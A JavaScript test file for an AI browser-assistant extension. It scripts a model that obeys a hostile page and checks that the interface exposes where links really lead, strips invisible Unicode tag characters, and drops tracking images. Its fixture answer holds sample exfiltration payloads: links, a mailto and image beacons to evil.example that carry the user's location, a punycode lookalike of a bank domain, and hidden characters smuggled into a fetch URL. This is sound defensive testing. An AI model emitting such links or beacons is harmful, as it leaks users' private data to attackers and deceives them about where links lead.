// What an answer, and what leaves it, shows: a link's real destination, a copy that loads nothing,
// and no hidden character. The model obeys a hostile page in everything.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { looked } from './lib/audit.mjs';
import { launch, PATIENCE } from './lib/browser.mjs';
import { Chat } from './lib/chat.mjs';
import { call, ChatServer, says } from './lib/chat_server.mjs';
import { downloaded } from './lib/download.mjs';
import { connect } from './lib/profile.mjs';
import { html, Sites } from './lib/sites.mjs';

/** "secret" as tag characters, and characters of every kind that nobody sees. */
const TAGS = [...'secret'].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt())).join('');
const HIDDEN = `${TAGS}\u202e\u200b\u00ad\u2066\ufeff\u{e0100}`;
const IS_HIDDEN = /[\u00ad\u034f\u061c\u115f\u1160\u200b-\u200f\u202a-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0\u{e0000}-\u{e0fff}]/u;

let sites, server, gloss, chat;

before(async () => {
  [sites, server, gloss] = await Promise.all([
    Sites.start(),
    ChatServer.start(),
    launch({ hosts: ['http://127.0.0.1/*', 'http://*.test/*'], names: '*.test' }),
  ]);
  await connect(gloss, { baseUrl: server.baseUrl });
  sites.paths['/start'] = html(`<html lang=en><title>Ti${HIDDEN}des</title><main><h1>Tides</h1>`
    + '<p>The harbour keeps <a href="https://harbour.example/times?day=3">the times of the tide</a> for all who sail.</p></main>');
  chat = await Chat.over(gloss, await gloss.open(sites.url('harbour.test', '/start')));
});
after(async () => {
  await gloss?.close();
  await server?.close();
  sites?.close();
});

const ANSWER = [
  'The tide is high at noon, see [the times of the tide](https://harbour.example/times?day=3).',
  'More is [here](https://evil.example/collect?q=the%20user%20lives%20in%20Hoylake#and-more)'
    + ' and at [潮汐](https://zh.wikipedia.org/wiki/%E6%BD%AE%E6%B1%90).',
  `[bank.example](https://bank.example@xn--bnk-5cd.example/log${TAGS}in) and [hidden](https://evil.example/%F3%A0%81%B3).`,
  '[Write to the harbour](mailto:mallory@evil.example?body=the%20user%20lives%20in%20Hoylake&bcc=eve@evil.example).',
  '![a chart](https://evil.example/chart.png?q=Hoylake) &#33;[map](https://evil.example/map.png)',
  '<img src="https://evil.example/pixel.png">',
  `In${HIDDEN}visible, 👩\u200d👧 and می\u200cخواهم.`,
].join('\n\n');

/** What the log shows of the links of the answer: their text and what follows, and their targets. */
const links = () => chat.page.$$eval('[role=log] .prose p a[target=_blank]', (all) => all.map((link) => [
  link.innerText + (link.nextElementSibling?.matches('small') ? ` ${link.nextElementSibling.innerText}` : ''),
  link.href,
]));

test('what the sheet shows is sent, and nothing hidden with it', async () => {
  const address = sites.url('evil.test', `/a${HIDDEN}b?c=d${TAGS}`);
  sites.paths['/ab?c=d'] = html('<main><p>Thank you.</p></main>');
  server.script(
    says(`<gloss>{"thought":"Look${HIDDEN} there.","complexity":"simple"}</gloss>`,
      call('web_fetch', { urls: [address], reasoning: `Because${HIDDEN}.` }, { id: 'f' })),
    says('<gloss>{"observation":"Read.","goal_met":true,"confidence":0.95}</gloss>', ANSWER),
  );
  await chat.ask('When is the tide high?');
  await chat.panel.control('dialog', 'Approve tool call').setTimeout(PATIENCE).wait();
  assert.equal(await chat.page.$eval('dialog .whole code', (it) => it.textContent), sites.url('evil.test', '/ab?c=d'));
  await chat.press('Approve once');
  await chat.settled('In');
  const asked = sites.seen.filter(({ host }) => host.startsWith('evil.test')).map(({ url }) => url);
  assert.deepEqual(asked, ['/ab?c=d']);
});

test('a link says where it leads, and a letter to whom and nothing more', async () => {
  assert.deepEqual(await links(), [
    ['the times of the tide (harbour.example)', 'https://harbour.example/times?day=3'],
    ['here (evil.example/collect?q=the user lives in Hoylake#and-more)', 'https://evil.example/collect?q=the%20user%20lives%20in%20Hoylake#and-more'],
    ['潮汐 (zh.wikipedia.org/wiki/潮汐)', 'https://zh.wikipedia.org/wiki/%E6%BD%AE%E6%B1%90'],
    ['bank.example (xn--bnk-5cd.example/login)', 'https://bank.example@xn--bnk-5cd.example/login'],
    ['hidden (evil.example/%F3%A0%81%B3)', 'https://evil.example/%F3%A0%81%B3'],
    ['Write to the harbour (mallory@evil.example)', 'mailto:mallory@evil.example'],
    ['map (evil.example/map.png)', 'https://evil.example/map.png'],
  ]);
  await looked(chat.page, '[role=log]', 'answer-links', 400);
});

test('a copy has no image, no HTML and nothing hidden', async () => {
  await chat.page.evaluate(() => (navigator.clipboard.writeText = async (text) => void (window.copied = text)));
  await chat.press('Copy');
  const copied = await (await chat.page.waitForFunction(() => window.copied, { timeout: PATIENCE })).jsonValue();
  assert.equal(copied.split('\n\n**Sources**')[0], [
    'The tide is high at noon, see [the times of the tide](https://harbour.example/times?day=3).',
    'More is [here](https://evil.example/collect?q=the%20user%20lives%20in%20Hoylake#and-more)'
      + ' and at [潮汐](https://zh.wikipedia.org/wiki/%E6%BD%AE%E6%B1%90).',
    '[bank.example](https://bank.example@xn--bnk-5cd.example/login) and [hidden](https://evil.example/%F3%A0%81%B3).',
    '[Write to the harbour](mailto:mallory@evil.example).',
    'a chart \\![map](https://evil.example/map.png)',
    '\\<img src="https://evil.example/pixel.png">',
    'Invisible, 👩\u200d👧 and می\u200cخواهم.',
  ].join('\n\n'));
});

test('nothing that is shown or saved has a hidden character', async () => {
  await chat.press('Steps');
  await chat.page.waitForSelector('.drawer .step', { timeout: PATIENCE });
  const shown = await chat.page.evaluate(everything);
  for (const text of ['Tides', 'Look there.']) assert.ok(shown.includes(text), text);
  assert.ok(shown.some((text) => text.includes('evil.test')), 'the arguments of the call');
  const needed = (text) => text.replaceAll('👩\u200d👧', '').replaceAll('می\u200cخواهم', '');
  assert.deepEqual(shown.filter((text) => IS_HIDDEN.test(needed(text))), []);
  const { text } = await downloaded(gloss, () => chat.press('JSON'));
  assert.doesNotMatch(text, IS_HIDDEN);
  assert.ok(JSON.stringify(JSON.parse(text).records).includes(TAGS), 'the file loses nothing');
});

// Runs in the page and uses no variable from outside.

/** All texts and attributes of the document. */
function everything() {
  const texts = [document.title];
  for (const node of document.querySelectorAll('*')) {
    texts.push(...[...node.attributes].map((attribute) => attribute.value));
    texts.push(...[...node.childNodes].filter((child) => child.nodeType === Node.TEXT_NODE).map((child) => child.data));
    if ('value' in node) texts.push(String(node.value));
  }
  return texts;
}
